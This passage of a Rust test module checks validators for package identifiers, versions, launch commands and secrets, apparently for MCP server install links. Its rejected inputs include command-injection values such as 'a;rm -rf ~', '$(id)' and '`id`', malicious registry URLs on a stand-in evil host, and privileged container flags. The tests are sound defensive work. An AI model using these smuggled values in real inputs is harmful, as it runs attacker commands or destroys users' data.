            ("tsx", "--eval x", "tsx --eval"),
        ] {
            let err = check_command(command, &argv(args), "this link").unwrap_err();
            assert!(err.message.contains(said), "{command} {args}: {err}");
        }
        // A package's own options come after it, and are its own.
        for (command, args) in [
            ("npx", "-y @scope/server --registry-name x"),
            ("uvx", "mcp-server-time --local-timezone UTC"),
            ("node", "/srv/app/server.js -r fast"),
            ("python3", "-m mcp_server_time -c config.toml"),
            ("python", "-u server.py"),
            ("node", "server.js -e production"),
            // A value attached to an option is its value, not more options.
            ("python3", "-Wignore::DeprecationWarning server.py"),
            ("python3", "-Xpycache_prefix=/tmp/c server.py"),
            ("perl", "-I/usr/share/perl5 server.pl"),
            ("deno", "run server.ts eval"),
            ("env", "TZ=UTC npx -y harmless"),
        ] {
            assert!(
                check_command(command, &argv(args), "x").is_ok(),
                "{command} {args}"
            );
        }
        assert!(check_container("npx", &argv("--privileged"), "x").is_ok());
    }

    #[test]
    fn identifiers_follow_their_registrys_grammar() {
        for (kind, good) in [
            ("npm", "@modelcontextprotocol/server-filesystem"),
            ("npm", "mcp-server"),
            ("pypi", "mcp-server-time"),
            ("pypi", "mcp_server.git"),
            ("oci", "ghcr.io/github/github-mcp-server"),
            ("oci", "docker.io/mcp/time:1.0"),
            (
                "oci",
                "localhost:5000/a/b@sha256:0123456789abcdef0123456789abcdef",
            ),
            ("nuget", "Contoso.Mcp.Server"),
        ] {
            assert!(check_identifier(kind, good).is_ok(), "{kind} {good}");
        }
        for (kind, bad) in [
            ("npm", "--registry=https://evil.example"),
            ("npm", "-y"),
            ("npm", "a b"),
            ("npm", "a;rm -rf ~"),
            ("npm", "$(id)"),
            ("pypi", "--index-url=https://evil.example"),
            ("pypi", "pkg==1 --extra"),
            ("pypi", "-e"),
            ("oci", "--privileged"),
            ("oci", "-v=/:/h"),
            ("oci", "img `id`"),
            ("nuget", "-source"),
            ("nuget", "a|b"),
        ] {
            assert!(check_identifier(kind, bad).is_err(), "{kind} {bad}");
        }
        for good in [
            "1.0.0",
            "2026.8.31",
            "1.0.0-beta.1+build.5",
            "1!2.0",
            "latest",
        ] {
            assert!(check_version(good).is_ok(), "{good}");
        }
        for bad in ["-1", "1.0 --x", "1;id", "", "$(id)"] {
            assert!(check_version(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn a_link_brings_no_secret() {
        let plain = |v: &str| ConfigValue::Plain(v.to_owned());
        let mut values = BTreeMap::new();
        values.insert("LOG_LEVEL".to_owned(), plain("debug"));
        values.insert("API_TOKEN".to_owned(), plain(""));
        assert!(check_no_secrets(&values, "variable", "this link").is_ok());
        values.insert("GITHUB_TOKEN".to_owned(), plain("ghp_abc"));
        let err = check_no_secrets(&values, "variable", "this link").unwrap_err();
        assert!(err.message.contains("GITHUB_TOKEN"), "{err}");
        let mut shaped = BTreeMap::new();
        shaped.insert("X".to_owned(), plain("sk-proj-0123456789abcdef"));
        assert!(check_no_secrets(&shaped, "variable", "this link").is_err());
    }
}
